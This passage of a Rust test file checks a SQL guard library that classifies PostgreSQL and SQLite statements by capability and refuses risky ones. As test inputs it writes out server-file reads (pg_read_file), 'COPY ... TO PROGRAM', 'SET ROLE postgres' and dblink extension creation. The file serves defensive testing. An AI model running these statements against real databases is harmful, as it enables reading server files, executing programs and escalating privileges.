        .check_script("CREATE EXTENSION dblink;\nSELECT 1;\nSELECT pg_read_file('a'), pg_stat_file('a')")
        .unwrap();
    let uses: Vec<_> =
        approval.uses.iter().map(|used| (used.capability, used.keyword, used.line, used.column)).collect();
    assert_eq!(
        uses,
        [
            (Capability::RemoteDatabases, "CREATE EXTENSION", 1, 1),
            (Capability::Extensions, "CREATE EXTENSION", 1, 1),
            (Capability::ServerFiles, "pg_read_file", 3, 8),
            (Capability::ServerFiles, "pg_stat_file", 3, 27),
        ]
    );
    assert_eq!(approval.capabilities().iter().count(), 3);
    // One capability is not another, and none allows what has no capability.
    assert!(matches!(
        policy.check_script("COPY t TO PROGRAM 'x'"),
        Err(GuardError::Refused { class: StatementClass::Programs, .. })
    ));
    assert!(matches!(
        policy.check_script("SET ROLE postgres"),
        Err(GuardError::Refused { class: StatementClass::SessionSetting, .. })
    ));
    assert!(policy.check_statement("SELECT 1").unwrap().is_plain());
}

#[test]
fn the_transaction_only_guard_keeps_its_old_verdicts() {
    for dialect in [Dialect::Sqlite, Dialect::Postgres] {
        let policy = Policy::transactions_only(dialect);
        assert!(policy.check_script("SET search_path = x; ATTACH 'x' AS y; DELETE FROM wasmig_revisions").is_ok());
        assert!(matches!(policy.check_script("SELECT 1; COMMIT"), Err(GuardError::TransactionControl { .. })));
        assert!(matches!(
            wasmig_sqlguard::check_statement("SELECT 1; SELECT 2", dialect),
            Err(GuardError::SeveralStatements { .. })
        ));
        assert_eq!(wasmig_sqlguard::check_script("SELECT pg_read_file('x')", dialect), Ok(()));
    }
}
